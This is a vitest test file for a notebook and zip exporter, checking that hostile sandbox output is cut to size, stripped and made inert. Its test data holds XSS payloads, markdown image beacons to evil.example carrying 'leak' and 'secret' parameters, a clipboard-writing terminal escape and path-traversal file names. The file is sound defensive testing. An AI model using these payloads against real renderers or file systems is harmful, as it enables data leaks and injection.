import type { Paragraph } from "mdast";
import { describe, expect, test } from "vitest";
import { parseMarkdown } from "../../src/core/markdown/markdown-tree.js";
import { zipEntryName } from "../../src/export/files-zip.js";
import { buildNotebook, exportBaseName, notebookFile } from "../../src/export/notebook.js";
import { boundTurn, EXPORT_BOUNDS, type ThreadTurnInput } from "../../src/export/turn-record.js";
import { nbformatValidate } from "./nbformat-check.js";

/** A 1×1 PNG. */
const PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
const facts = { threadName: "Q3 orders / ../../etc", exportedAt: new Date("2025-03-04T05:06:07Z") };

type Step = ThreadTurnInput["steps"][number];
const result = (fields: Partial<Step["result"]> = {}): Step["result"] => ({ status: "ok", stdout: "", stderr: "", notes: [], images: [], ...fields });
const turn = (fields: Partial<ThreadTurnInput>): ThreadTurnInput => ({ eventId: `e${Math.random()}`, at: 0, userName: "Ada", userText: "hi", steps: [], answerMarkdown: "done", ...fields });

type AnyOutput = { output_type: string; name?: string; text?: string; data?: Record<string, string>; ename?: string; traceback?: string[]; execution_count?: number };
type AnyCell = { cell_type: string; source: string; execution_count?: number; outputs?: AnyOutput[] };

describe("the notebook builder, fed hostile sandbox output", () => {
  test("huge output, terminal escapes, bad images, hostile markdown: bounded, skipped, made inert, and still valid nbformat 4", async () => {
    const hugeStdout = `start\n${"A".repeat(3_000_000)}\nend`;
    const escapes = "\u001b[31mred\u001b[0m \u001b]52;c;ZXZpbA==\u0007clip \u001b]0;title\u001b\\ bell\u0007 nul\u0000 cr\rline \ud800lone";
    const turns = [
      turn({
        userName: "Ada *[admin](http://evil)*",
        userText: "plot it ![x](http://evil.example/leak?q=1) <img src=http://evil.example/p.png>",
        steps: [
          {
            code: "print('x' * 3_000_000)",
            result: result({
              stdout: hugeStdout,
              stderr: escapes,
              result: "   a  b\n0  1  2",
              images: [
                { mime: "image/png", data: PNG },
                { mime: "image/png", data: "not base64 at all!!" },
                { mime: "image/png", data: Buffer.from("GIF89a not a png").toString("base64") },
                { mime: "image/svg+xml", data: Buffer.from("<svg onload=alert(1)>").toString("base64") },
                { mime: "image/png", data: `${PNG.slice(0, -2)}=` },
                ...Array.from({ length: 12 }, () => ({ mime: "image/png", data: PNG })),
              ],
            }),
          },
          { code: "1/0", result: result({ status: "error", error: { name: "ZeroDivisionError", value: "division by zero", traceback: "Traceback (most recent call last):\n  \u001b[36mFile\u001b[0m \"<cell>\", line 1\nZeroDivisionError: division by zero" } }) },
        ],
        answerMarkdown: "Here: ![chart](https://evil.example/x?secret=1) and <script>alert(1)</script>\n```python\nif a < b: print('<ok>')\n```\nand `x < y`",
      }),
      turn({ ranAsWritten: true, userText: "```python\nprint(2)\n```", steps: [{ code: "print(2)", result: result({ stdout: "2\n", notes: ["The output was cut."] }) }], answerMarkdown: "```\n2\n```" }),
    ];
    const notebook = await buildNotebook(turns, facts);
    const file = notebookFile(notebook, facts);
    const reading = await nbformatValidate(file.data);
    expect(reading.nbformat).toEqual([4, 5]);
    expect(reading.cells.map(([type]) => type)).toEqual(["markdown", "markdown", "code", "code", "markdown", "markdown", "code"]);

    const cells = JSON.parse(file.data.toString("utf8")).cells as AnyCell[];
    const code = cells.filter((cell) => cell.cell_type === "code");
    expect(code.map((cell) => cell.execution_count)).toEqual([1, 2, 3]);
    const [first, second, third] = code.map((cell) => cell.outputs ?? []);
    const stdout = first!.find((output) => output.name === "stdout")!.text!;
    expect(stdout.length).toBeLessThanOrEqual(EXPORT_BOUNDS.maxStreamChars);
    expect(stdout.startsWith("start\n")).toBe(true);
    expect(stdout.endsWith("\nend")).toBe(true);
    expect(stdout).toContain("characters cut");
    const stderr = first!.find((output) => output.name === "stderr")!.text!;
    expect(stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(stderr).toContain("red clip");
    expect(stderr).toContain("\ufffdlone");
    expect(stderr).not.toContain("ZXZpbA==");
    // Only well-formed PNGs are kept, at most ten; what was left out is said.
    const images = first!.filter((output) => output.output_type === "display_data");
    expect(images).toHaveLength(EXPORT_BOUNDS.maxImagesPerStep);
    expect(images.every((output) => output.data?.["image/png"] === PNG)).toBe(true);
    expect(first!.find((output) => output.output_type === "execute_result")?.data?.["text/plain"]).toBe("   a  b\n0  1  2");
    expect(first!.at(-1)?.text).toContain("7 images were left out of the export");
    const error = second!.find((output) => output.output_type === "error")!;
    expect(error.ename).toBe("ZeroDivisionError");
    expect(error.traceback!.join("\n")).not.toContain("\u001b");
    expect(error.traceback!.at(-1)).toBe("ZeroDivisionError: division by zero");
    expect(third!.map((output) => output.output_type)).toEqual(["stream", "stream"]);

    // Markdown that would fetch something when shown is made inert; code is left as written.
    const texts = cells.filter((cell) => cell.cell_type === "markdown").map((cell) => cell.source);
    // The name is bold text, every character as written (no link made of it); the image is a link now.
    const question = parseMarkdown(texts[1]!)!.children[0] as Paragraph;
    expect(question.children[0]).toMatchObject({ type: "strong", children: [{ type: "text", value: "Ada *[admin](http://evil)*" }] });
    expect(texts[1]).toMatch(/: plot it \[x\]\(http:\/\/evil\.example\/leak\?q=1\)/);
    const all = texts.join("\n");
    expect(all).not.toContain("![");
    expect(all).not.toMatch(/(?<!\\)<(img|script)/); // only as escaped text: \<img
    expect(all).toContain("if a < b: print('<ok>')");
    expect(all).toContain("`x < y`");
    // A turn run as written: its code cell is the question and its outputs the answer.
    expect(texts[3]).toBe("**Ada** ran:");
    expect(file.name).toBe("codebot-q3-orders-etc-2025-03-04.ipynb");
  });

  test("a turn too big for the record keeps its text and as many images as fit; bounding twice changes nothing", () => {
    const big = Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), Buffer.alloc(1_900_000, 7)]).toString("base64");
    const input = turn({ steps: Array.from({ length: 3 }, () => ({ code: "plt.show()", result: result({ images: [big, big] .map((data) => ({ mime: "image/png", data })) }) })) });
    const bounded = boundTurn(input);
    const kept = bounded.steps.flatMap((step) => step.result.images).length;
    expect(kept).toBe(1);
    expect(JSON.stringify(bounded).length).toBeLessThanOrEqual(EXPORT_BOUNDS.maxTurnChars + 10_000);
    expect(bounded.steps[2]?.result.notes[0]).toContain("2 images were left out");
    expect(boundTurn(bounded)).toEqual(bounded);
    const tooBig = Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), Buffer.alloc(EXPORT_BOUNDS.maxImageBytes + 10)]).toString("base64");
    expect(boundTurn(turn({ steps: [{ code: "", result: result({ images: [{ mime: "image/png", data: tooBig }] }) }] })).steps[0]?.result.images).toEqual([]);
  });

  test("an empty thread is still a valid notebook; names are safe", async () => {
    const reading = await nbformatValidate(notebookFile(await buildNotebook([], facts), facts).data);
    expect(reading.cells).toEqual([["markdown", []]]);
    expect(exportBaseName({ threadName: "\u202e:::", exportedAt: facts.exportedAt })).toBe("codebot-thread-2025-03-04");
    expect(exportBaseName({ threadName: "1712345678.123456", exportedAt: facts.exportedAt })).toBe("codebot-1712345678-123456-2025-03-04");
  });
});

describe("names inside the files zip", () => {
  test("relative to /mnt/data, no '..', no absolute path, no backslash or control character", () => {
    expect(zipEntryName("/mnt/data/report.csv")).toBe("report.csv");
    expect(zipEntryName("/mnt/data/sub/dir/a.txt")).toBe("sub/dir/a.txt");
    expect(zipEntryName("/mnt/data/../../etc/passwd")).toBe("etc/passwd");
    expect(zipEntryName("/etc/passwd")).toBe("etc/passwd");
    expect(zipEntryName("/mnt/data/..\\..\\evil.txt")).toBe("evil.txt");
    expect(zipEntryName("/mnt/data/C:\\Windows\\x.dll")).toBe("C_/Windows/x.dll");
    expect(zipEntryName("/mnt/data/a\u0000b\u001b[31m.txt")).toBe("ab[31m.txt");
    expect(zipEntryName("/mnt/data/.hidden")).toBe("hidden");
    expect(zipEntryName("/mnt/data/../..")).toBeUndefined();
  });
});
